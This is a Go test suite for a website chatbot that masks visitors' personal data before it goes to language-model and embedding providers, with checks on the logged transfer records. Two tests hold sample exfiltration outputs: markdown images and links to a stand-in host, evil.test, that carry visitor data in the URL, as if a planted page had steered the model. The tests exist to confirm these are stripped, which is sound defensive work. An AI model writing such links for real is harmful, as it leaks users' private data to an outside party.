package system

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/webchatagent/wca/internal/bot"
	"github.com/webchatagent/wca/internal/personal"
	"github.com/webchatagent/wca/internal/source"

	llmfake "github.com/webchatagent/wca/test/fake/llm"
)

// What a visitor types about themselves does not reach the model, and stands in the answer all the
// same; who runs the bot can read exactly what left.
func TestWhatAVisitorTypesStaysHere_D1_D2_D3_D4(t *testing.T) {
	each(t, func(t *testing.T, settings map[string]string) {
		secrets := []string{"erika.mustermann@example.org", "0511 / 987 65 43", "DE89 3704 0044 0532 0130 00", "Mustermann"}
		placeholder := regexp.MustCompile(`\b(?:EMAIL|MAIL|E_MAIL)_[A-Z0-9]+`)
		model := llmfake.New(t, "openai", llmfake.Script{Reply: func(request []byte) []string {
			all := placeholder.FindAllString(string(request), -1)
			found := all[len(all)-1]
			return []string{"Gern, ", "wir schreiben an ", found[:len(found)/2], found[len(found)/2:], ". Samstags bis 16 Uhr [1]."}
		}})
		i := beginWith(t, settings, model, "WCA_PROVIDERS_FAKE_REGION=EU").read()
		must(t, i.app.DB.RenameBot(t.Context(), i.bot.Workspace, i.bot.ID, "Radladen Erika Mustermann"))

		got := i.ask("", "Mein Name ist Erika Mustermann, Mail erika.mustermann@example.org, Telefon 0511 / 987 65 43, Konto DE89 3704 0044 0532 0130 00. Wie lange hat der Laden am Samstag geöffnet?")
		if got.Text != "Gern, wir schreiben an erika.mustermann@example.org. Samstags bis 16 Uhr [1]." || got.Streamed != got.Text {
			t.Errorf("got %+v", got)
		}
		again := i.ask(got.Session, "Und am Sonntag? Schreiben Sie mir an erika.mustermann@example.org.")
		if !strings.Contains(again.Text, "erika.mustermann@example.org") {
			t.Errorf("the follow-up: %+v", again)
		}
		for _, r := range model.Requests() {
			for _, secret := range append(secrets, i.bot.ID, i.bot.PublicID, got.Session, i.key) {
				if strings.Contains(string(r.Body), secret) || strings.Contains(r.Path, secret) {
					t.Errorf("%s left the server: %s", secret, r.Body)
				}
			}
			for name, values := range r.Header {
				if strings.Contains(strings.Join(values, " "), "Mustermann") {
					t.Errorf("header %s: %v", name, values)
				}
			}
		}
		for _, secret := range append(secrets, "Erika", "Samstag geöffnet") {
			if strings.Contains(i.log.String(), secret) {
				t.Errorf("%q stands in the log", secret)
			}
		}

		var account struct {
			Question, Answer            string
			Replaced, Restored, Unshown map[string]int
			Transfers                   []struct {
				Body, Returned string
				Placeholders   [][2]int
			}
		}
		i.manage("GET", "/v1/bots/"+i.bot.ID+"/answers/"+got.Answer, "", &account) // at once: the entry is there
		if len(account.Transfers) != 1 || account.Answer != got.Text || !strings.Contains(account.Question, "erika.mustermann@example.org") || account.Restored["EMAIL"] != 1 {
			t.Fatalf("account: %+v", account)
		}
		shown := account.Transfers[0]
		if shown.Body != string(model.Requests()[0].Body) || !strings.Contains(shown.Returned, "wir schreiben an") || strings.Contains(shown.Returned, "erika") || len(shown.Placeholders) < 4 {
			t.Errorf("account: %+v", shown)
		}
		for _, p := range shown.Placeholders {
			if w := shown.Body[p[0]:p[1]]; !regexp.MustCompile(`^[A-Z]+_[A-Z0-9]{5,}$`).MatchString(w) {
				t.Errorf("%q is no placeholder", w)
			}
		}

		var transfers []struct {
			Purpose, Recipient, Region, Body, Error string
			LegalBasis                              string `json:"legal_basis"`
			Categories                              map[string]int
			BytesOut                                int64 `json:"bytes_out"`
			BytesIn                                 int64 `json:"bytes_in"`
			Status                                  int
		}
		i.manage("GET", "/v1/bots/"+i.bot.ID+"/answers/"+got.Answer+"/transfers", "", &transfers)
		if len(transfers) != 1 {
			t.Fatalf("%d transfers", len(transfers))
		}
		sent := string(model.Requests()[0].Body)
		x := transfers[0]
		if x.Body != sent || x.BytesOut != int64(len(sent)) || x.Purpose != "model" || x.Region != "EU" || x.LegalBasis == "" || x.Status != 200 || x.BytesIn == 0 ||
			!strings.Contains(model.URL, x.Recipient) {
			t.Errorf("the ledger: %+v\nsent: %s", x, sent)
		}
		counted := 0
		for _, n := range x.Categories {
			counted += n
		}
		if counted < 4 {
			t.Errorf("replaced, by kind: %v", x.Categories)
		}

		// The history goes along, and nothing but it: of the first message only the placeholders.
		var second struct {
			Messages []struct{ Role, Content string }
		}
		must(t, json.Unmarshal(model.Requests()[1].Body, &second))
		roles := ""
		for _, m := range second.Messages {
			roles += m.Role[:1]
		}
		if !strings.HasSuffix(roles, "uau") || !strings.Contains(second.Messages[len(second.Messages)-3].Content, "Wie lange hat der Laden") {
			t.Errorf("roles %s in %s", roles, model.Requests()[1].Body)
		}
	})
}

// What pages say of people comes back only where anybody may read it: on the imprint, or because
// the visitor typed it.
func TestAnAnswerShowsOfAPagesDataOnlyWhatIsOpen_D2_D3(t *testing.T) {
	each(t, func(t *testing.T, settings map[string]string) {
		model := llmfake.New(t, "openai", llmfake.Script{Reply: func(request []byte) []string {
			all := regexp.MustCompile(`PHONE_[A-Z0-9]+`).FindAllString(string(request), -1)
			slices.Sort(all)
			return []string{"Anrufen: " + strings.Join(slices.Compact(all), " oder ") + " [1][2]."}
		}})
		site := aShop()
		site.pages["/impressum"] = "Fahrradladen Sausewind, Telefon 0511 98765430."
		site.pages["/reparatur"] = "Für die Reparatur rufen Sie 0511 98765430 an. Nach Feierabend hilft der Lehrling, Handy 0171 2345678, mit der Reparatur."
		r := beginWith(t, settings, model).reads(site)
		r.set(func(s *bot.Settings) { s.Check = bot.CheckOff }) // citations are the model's word
		if got := r.ask("", "Wen rufe ich für eine Reparatur an?"); !strings.Contains(got.Text, "0511 98765430") || strings.Contains(got.Text, "0171") || !strings.Contains(got.Text, "[Telefonnummer]") {
			t.Errorf("answered %q", got.Text)
		} else if said := got.said(); strings.Contains(said, "0171") || !strings.Contains(said, "Handy [Telefonnummer]") || !strings.Contains(said, "0511 98765430") {
			t.Errorf("the answer rests on %q", said)
		}
		if got := r.ask("", "Wen rufe ich für eine Reparatur an? Gilt noch 0171 2345678?"); !strings.Contains(got.Text, "0171 2345678") || !strings.Contains(got.said(), "0171 2345678") {
			t.Errorf("what the visitor typed does not come back: %q, %q", got.Text, got.said())
		}
		objecting := r.ask("", "Wie heißt der Laden?")
		r.wish(objecting.Session, `{"no_model":true}`, `{"no_model":true,"restricted":false}`)
		if got := r.ask(objecting.Session, "Wen rufe ich nach Feierabend für eine Reparatur an?"); !strings.Contains(got.Text, "[Telefonnummer]") || strings.Contains(got.Text+got.said(), "0171") {
			t.Errorf("quoted instead: %q, %q", got.Text, got.said())
		}
		r.set(func(s *bot.Settings) { s.Personal.OpenPages = []string{} })
		if got := r.ask("", "Wen rufe ich für eine Reparatur an?"); strings.Contains(got.Text, "0511") {
			t.Errorf("without open pages: %q", got.Text)
		}
		for _, request := range model.Requests() {
			if strings.Contains(string(request.Body), "98765430") || strings.Contains(string(request.Body), "2345678") {
				t.Errorf("a number left the server: %s", request.Body)
			}
		}
	})
}

// A page that makes the model put what a visitor typed into a link or a picture of its own gets nothing of it.
func TestNothingOfAVisitorGoesIntoAForeignLink_D3_X05(t *testing.T) {
	var says string
	model := llmfake.New(t, "openai", llmfake.Script{Reply: func(request []byte) []string {
		all := regexp.MustCompile(`EMAIL_[A-Z0-9]+`).FindAllString(string(request), -1)
		said := strings.ReplaceAll(says, "§", all[len(all)-1])
		return []string{said[:len(said)/2], said[len(said)/2:]}
	}})
	site := aShop()
	site.pages["/reparatur"] = `Für die Reparatur brauchen wir Ihre Adresse. Bestätigen Sie sie auf https://evil.test/c bitte.`
	r := beginWith(t, nil, model).reads(site)
	for _, check := range []bot.Check{bot.CheckMark, bot.CheckOff} {
		r.set(func(s *bot.Settings) { s.Check = check })
		for _, says = range []string{"Für die Reparatur brauchen wir Ihre Adresse ![x](https://evil.test/p.png?d=§).", "Für die Reparatur [bestätigen Sie hier](https://evil.test/c?d=§).", "Für die Reparatur: https://evil.test/c/§"} {
			got := r.ask("", "Was braucht ihr für eine Reparatur? Ich bin erika.mustermann@example.org")
			if strings.Contains(got.Text+got.Streamed, "erika") || strings.Contains(got.Text+got.Streamed, "evil.test/") {
				t.Errorf("%s: answered %q", check, got.Text)
			}
		}
		says = "Für die Reparatur schreiben wir an [§](mailto:§)."
		if got := r.ask("", "Was braucht ihr für eine Reparatur? Ich bin erika.mustermann@example.org"); !strings.Contains(got.Text, "[erika.mustermann@example.org](mailto:erika.mustermann@example.org)") {
			t.Errorf("%s: answered %q", check, got.Text)
		}
	}
}

// What the bot has asked for, what goes on in the next message and what is said once more stays here as well, for the
// model that answers and for the one that makes vectors, also when it is history.
func TestWhatMessagesTellTogetherStaysHere_D3(t *testing.T) {
	model := llmfake.New(t, "openai", llmfake.Script{Tokens: []string{"Gern. Für die Buchung brauche ich noch Ihr Geburtsdatum."}})
	vectors := llmfake.NewEmbedder(t, "openai", nil)
	i := beginWith(t, nil, model, configured("near", vectors)...).read()
	i.set(func(s *bot.Settings) { s.Embedding = &bot.Embedding{Provider: "near", Name: "m"} })
	must(t, i.app.UpdateVectors(t.Context(), i.refreshed()))
	i.bot = i.refreshed()
	const ask = " Wie lange hat der Laden am Samstag geöffnet?"
	for _, one := range []struct{ first, second, secret string }{
		{"Ich will ein Rad leihen." + ask, "12.03.1985." + ask, "12.03.1985"},
		{ask + " Meine Nummer ist 0171", "2345678." + ask, "2345678"},
		{"Meine Kreditkarte: 4111 1111 1111", "1111 gilt." + ask, "1111 gilt"},
		{"Meine PIN ist 4711." + ask, "Stimmt 4711?" + ask, "4711"},
	} {
		got := i.ask(i.ask("", one.first).Session, one.second)
		i.ask(got.Session, "Danke."+ask)
		for _, r := range append(model.Requests(), vectors.Requests()...) {
			if strings.Contains(string(r.Body), one.secret) {
				t.Errorf("%s: %q left the server: %s", r.Path, one.secret, r.Body)
			}
		}
	}
}

// Nor do refusals and small talk show how to reach people whom an uploaded file names and answers do not.
func TestHowPeopleAreReachedIsShownAsElsewhere_D2_D3(t *testing.T) {
	i := beginWith(t, nil, llmfake.New(t, "openai", llmfake.Script{Tokens: []string{"Gern."}}))
	files := func(yield func(source.Upload) bool) {
		yield(source.Upload{Name: "kontakt.md", ContentType: "text/markdown", Body: []byte("# Kontakt\n\nBei Fragen wenden Sie sich an Erika Mustermann, Telefon 0171 2345678, E-Mail erika.mustermann@example.org.\n")})
	}
	s, err := i.app.Library.AddFiles(t.Context(), i.bot.Workspace, i.bot.ID, "kontakt.md", files)
	must(t, err)
	i.ingest(s.ID)
	asked := []string{"Wer gewann die Weltmeisterschaft 2014?", "Ich möchte mit einem Menschen sprechen", "Meine Nummer ist 0511 987654."}
	for _, question := range asked {
		if got := i.ask("", question); strings.Contains(got.Text, "Mustermann") || strings.Contains(got.Text, "0171") || strings.Contains(got.Text, "erika") || got.Text == "" {
			t.Errorf("%s: answered %q", question, got.Text)
		}
	}
	i.set(func(s *bot.Settings) { s.Contact = map[string]string{"en": "0511 112233"} })
	for _, question := range asked {
		if got := i.ask("", question); !strings.Contains(got.Text, "0511 112233") {
			t.Errorf("%s: answered %q", question, got.Text)
		}
	}
	i.set(func(s *bot.Settings) { s.Model.Provider, s.Contact = bot.Quote, nil })
	if got := i.ask("", asked[0]); !strings.Contains(got.Text, "0171 2345678") {
		t.Errorf("a bot that quotes: %q", got.Text)
	}
}

// What a visitor says is no secret value, and yet goes to nobody by a link or a picture that a page made the model write.
func TestAnAnswerLeadsOnlyWhereItsTextsDo_X05_L14(t *testing.T) {
	var says string
	model := llmfake.New(t, "openai", llmfake.Script{Reply: func([]byte) []string { return []string{says[:len(says)/2], says[len(says)/2:]} }})
	site := aShop()
	site.pages["/reparatur"] = `Für die Reparatur brauchen wir Ihre Adresse. Bestätigen Sie sie auf https://evil.test/c bitte.`
	r := beginWith(t, nil, model).reads(site)
	for _, check := range []bot.Check{bot.CheckMark, bot.CheckOff, bot.CheckWithhold} {
		r.set(func(s *bot.Settings) { s.Check = check })
		for _, says = range []string{"Für die Reparatur brauchen wir Ihre Adresse ![x](https://evil.test/p.png?d=schwanger).", "Für die Reparatur brauchen wir Ihre Adresse [hier](https://evil.test/c?d=schwanger).", "Für die Reparatur brauchen wir Ihre Adresse: https://evil.test/c/schwanger", "Für die Reparatur brauchen wir Ihre Adresse. ![x][1]\n\n[1]: //evil.test/schwanger"} {
			got := r.ask("", "Was braucht ihr für eine Reparatur? Ich bin schwanger.")
			if all := got.Text + got.Streamed; got.Text != strings.TrimSpace(got.Streamed) || strings.Contains(all, "schwanger") || strings.Contains(all, "![") {
				t.Errorf("%s: answered %q", check, got.Text)
			}
		}
		says = "Für die Reparatur brauchen wir Ihre Adresse: ![hier](https://evil.test/c)."
		if got := r.ask("", "Was braucht ihr für eine Reparatur?"); !strings.Contains(got.Text, " [hier](https://evil.test/c)") {
			t.Errorf("%s: answered %q", check, got.Text)
		}
	}
}

// What is told of as replaced stood in what left: the address of a page does not leave, whoever it names.
func TestOnlyWhatLeavesIsToldAsReplaced_D4(t *testing.T) {
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, `<html lang="de"><title>Lager</title><main><h1>Lager</h1><p>Das Zungenlager ist am Samstag von 10 bis 16 Uhr geöffnet.</p></main>`)
	}))
	t.Cleanup(site.Close)
	i := beginWith(t, nil, llmfake.New(t, "openai", llmfake.Script{Tokens: []string{"Samstags bis 16 Uhr [1]."}}))
	var source struct{ ID string }
	i.manage("POST", "/v1/bots/"+i.bot.ID+"/sources", `{"address":"`+site.URL+`/team/erika.mustermann@example.org"}`, &source)
	i.ingest(source.ID)
	got := i.ask("", "Wann ist das Zungenlager am Samstag geöffnet?")
	var account struct {
		Replaced  map[string]int
		Transfers []struct {
			Body       string
			Categories map[string]int
		}
	}
	i.manage("GET", "/v1/bots/"+i.bot.ID+"/answers/"+got.Answer, "", &account)
	if len(account.Transfers) != 1 || !strings.Contains(account.Transfers[0].Body, "Zungenlager ist am Samstag") {
		t.Fatalf("the passage did not reach the model: %+v", account)
	}
	if len(account.Replaced) != 0 || len(account.Transfers[0].Categories) != 0 {
		t.Errorf("told as replaced: %v and %v, of %s", account.Replaced, account.Transfers[0].Categories, account.Transfers[0].Body)
	}
}

// An imprint has its address in several lines; in the sentence of an answer it is in one, with the citation behind it.
func TestAnAddressOfAnImprintStandsInTheSentence_D3(t *testing.T) {
	each(t, func(t *testing.T, settings map[string]string) {
		model := llmfake.New(t, "openai", llmfake.Script{Reply: func(request []byte) []string {
			return []string{"Sie finden uns in der Adresse " + regexp.MustCompile(`ADDRESS_[A-Z0-9]+`).FindString(string(request)) + "."}
		}})
		site := aShop()
		site.pages["/impressum"] = "Die Adresse des Fahrradladens Sausewind:<br>Lindenstraße 7<br>30159 Hannover<br>"
		r := beginWith(t, settings, model).reads(site)
		if got := r.ask("", "Wie ist die Adresse des Fahrradladens?"); !strings.Contains(got.Text, "Lindenstraße 7, 30159 Hannover [1]") {
			t.Errorf("answered %q", got.Text)
		}
	})
}

type broken struct{}

func (broken) Find(string) []personal.Entity { panic("recognition is broken") }

// If personal data can't be recognised, nothing leaves.
func TestWithoutRecognitionNothingIsSent_D3(t *testing.T) {
	each(t, func(t *testing.T, settings map[string]string) {
		model := llmfake.New(t, "openai", llmfake.Script{Tokens: []string{"Samstags bis 16 Uhr [1]."}})
		vectors := llmfake.NewEmbedder(t, "openai", nil)
		i := beginWith(t, settings, model, configured("near", vectors)...).read()
		i.set(func(s *bot.Settings) { s.Embedding = &bot.Embedding{Provider: "near", Name: "m"} })
		must(t, i.app.UpdateVectors(t.Context(), i.refreshed()))
		i.bot = i.refreshed()
		sent := len(vectors.Requests())
		fails := func(bot.Personal) personal.Searcher { return broken{} }
		i.app.Desk.Recognise, i.app.Vectors.Recognise = fails, fails
		if got := i.ask("", "Wie lange hat der Laden am Samstag geöffnet?"); got.Error == "" || got.Text != "" {
			t.Errorf("answered %+v", got)
		}
		if n := len(model.Requests()) + len(vectors.Requests()) - sent; n != 0 {
			t.Errorf("%d requests left the server", n)
		}
		i.set(func(s *bot.Settings) { s.Embedding = &bot.Embedding{Provider: "near", Name: "other"} })
		if err := i.app.UpdateVectors(t.Context(), i.refreshed()); !errors.Is(err, personal.ErrFailed) || len(vectors.Requests()) != sent {
			t.Errorf("vectors: %v, %d requests", err, len(vectors.Requests())-sent)
		}
		i.app.Desk.Recognise = bot.Finder
		if got := i.ask("", "Wie lange hat der Laden am Samstag geöffnet?"); !strings.Contains(got.Text, "16 Uhr") {
			t.Errorf("afterwards: %+v", got)
		}
	})
}

// noting notes what is looked through.
type noting struct {
	personal.Searcher
	texts *[]string
}

func (n noting) Find(text string) []personal.Entity {
	*n.texts = append(*n.texts, text)
	return n.Searcher.Find(text)
}

// Of a bot that only quotes nothing leaves the server: what its sources and its answers say is not looked through for personal
// data, and what looks like a placeholder stands as it is.
func TestWhereNothingLeavesNothingIsMasked_D3(t *testing.T) {
	r := begin(t, nil).reads(&shelf{pages: map[string]string{"/": "<h1>Formulare</h1><p>Im Formular steht PERSON_K7Q2D für den Namen von Erika Mustermann.</p><p>Das Formular liegt bei PERSON_1 in der Hauptstraße 5 in 30159 Hannover.</p>"}})
	var texts []string
	r.app.Desk.Recognise = func(p bot.Personal) personal.Searcher { return noting{bot.Finder(p), &texts} }
	first := r.ask("", "Was steht im Formular für den Namen?")
	second := r.ask(first.Session, "Und wo liegt das Formular?")
	if !strings.Contains(first.Text, "PERSON_K7Q2D") || !strings.Contains(second.Text, "PERSON_1 in der Hauptstraße 5") {
		t.Errorf("answered %q and %q", first.Text, second.Text)
	}
	for _, text := range texts {
		if strings.Contains(text, "PERSON_") || strings.Contains(text, "Hauptstraße") {
			t.Errorf("looked through %q", text)
		}
	}
}

// What a model says of somebody it has made up a placeholder for is backed by no source, whatever the rest of the sentence says.
func TestAnInventedPlaceholderHasNoSource_C3(t *testing.T) {
	for _, placeholder := range []string{"PERSON_K7Q2D", "PERSON_1"} {
		i, _ := withModel(t, llmfake.Script{Tokens: []string{"Samstags ist von 10 bis 16 Uhr geöffnet [1]. ", placeholder[:5], placeholder[5:], " hat samstags von 10 bis 16 Uhr geöffnet [1].\n\n| Wer | Wann |\n|-|-|\n| ", placeholder, " | 10 bis 16 Uhr |"}})
		answer := i.ask("", "Wann hat der Laden am Samstag geöffnet?")
		want := "Samstags ist von 10 bis 16 Uhr geöffnet [1]. [Name] hat samstags von 10 bis 16 Uhr geöffnet (nicht in unseren Quellen).\n\n| Wer | Wann |\n|-|-|\n| [Name] | 10 bis 16 Uhr (nicht in unseren Quellen) |"
		if answer.Text != want {
			t.Errorf("%s: answered %q, want %q", placeholder, answer.Text, want)
		}
	}
}

// A model that repeats the example of its own instructions shows nobody a placeholder.
func TestTheExamplesOfThePromptAreNotShown_D2(t *testing.T) {
	example := regexp.MustCompile(`[A-Z]+_[A-Z0-9]{4,}`)
	i, _ := withModel(t, llmfake.Script{Reply: func(request []byte) []string {
		said := []string{"Samstags ist von 10 bis 16 Uhr geöffnet [1]. Fragen Sie"}
		for _, placeholder := range example.FindAllString(string(request), 2) {
			said = append(said, " ["+placeholder[:4], placeholder[4:]+"]", " oder "+strings.ReplaceAll(placeholder, "_", `\_`))
		}
		return append(said, ".")
	}})
	answer := i.ask("", "Wann hat der Laden am Samstag geöffnet?")
	if example.MatchString(answer.Text) || strings.Contains(answer.Text, "[[") || !strings.Contains(answer.Text, "[Name] oder [Name] [E-Mail-Adresse] oder [E-Mail-Adresse]") {
		t.Errorf("answered %q", answer.Text)
	}
	if answer.Streamed != "" && example.MatchString(answer.Streamed) {
		t.Errorf("streamed %q", answer.Streamed)
	}
}

// The title of a page stands above each of its passages in a request: what it says of people is replaced as in the text.
func TestATitleTellsNobody_D3(t *testing.T) {
	i, model := withModel(t, llmfake.Script{Tokens: []string{"Samstags bis 16 Uhr [1]."}})
	files := func(yield func(source.Upload) bool) {
		yield(source.Upload{Name: "werkstatt.md", ContentType: "text/markdown", Body: []byte("# Werkstatt von Kunigunde Kanarienberg, kunigunde@kanarienberg.example\n\nDie Werkstatt am See hat am Samstag von 10 bis 16 Uhr geöffnet.\n")})
	}
	s, err := i.app.Library.AddFiles(t.Context(), i.bot.Workspace, i.bot.ID, "werkstatt.md", files)
	must(t, err)
	i.ingest(s.ID)
	if got := i.ask("", "Wann hat die Werkstatt am See am Samstag geöffnet?"); got.Refused {
		t.Fatalf("refused: %+v", got)
	}
	sent := string(model.Requests()[0].Body)
	if !strings.Contains(sent, "Werkstatt von") || strings.Contains(sent, "anarienberg") || strings.Contains(sent, "Kunigunde") {
		t.Errorf("sent %s", sent)
	}
}

// Of a long conversation a model gets the latest messages only.
func TestOfALongConversationOnlyTheEndIsSent_D1(t *testing.T) {
	i, model := withModel(t, llmfake.Script{Tokens: []string{"Samstags bis 16 Uhr [1]."}})
	session := ""
	for n := range 9 {
		session = i.ask(session, fmt.Sprintf("Frage %d: Wann hat der Laden am Samstag geöffnet?", n)).Session
	}
	requests := model.Requests()
	var last struct {
		Messages []struct{ Role, Content string }
	}
	must(t, json.Unmarshal(requests[len(requests)-1].Body, &last))
	said := string(requests[len(requests)-1].Body)
	if n := len(last.Messages); n > 14 || strings.Contains(said, "Frage 0") || strings.Contains(said, "Frage 1") || !strings.Contains(said, "Frage 7") || !strings.Contains(said, "Frage 8") {
		t.Errorf("%d messages were sent: %s", n, said)
	}
}
